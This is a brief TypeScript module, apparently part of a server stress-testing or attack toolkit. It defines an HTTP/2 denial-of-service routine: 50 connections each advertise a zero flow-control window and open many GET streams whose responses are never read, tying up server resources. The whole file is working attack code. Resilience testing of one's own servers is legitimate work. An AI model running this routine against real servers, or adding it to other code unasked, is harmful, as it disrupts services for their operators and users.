import { type Attack, callHeaders } from "./attack.js";
import { setting } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;

/** Pages over HTTP/2, for whose answers the client leaves no room. */
export const unreadHttp2Pages: Attack = {
  name: "pages never read, HTTP/2",
  connections: 50,
  endsAfter: 12,
  async run(connection) {
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 0));
    for (let id = 1; id < 200 && connection.going; id += 2) {
      await connection.write(callHeaders(id, true, { ":method": "GET", ":path": "/" }));
    }
    await connection.waitForEnd();
  },
};
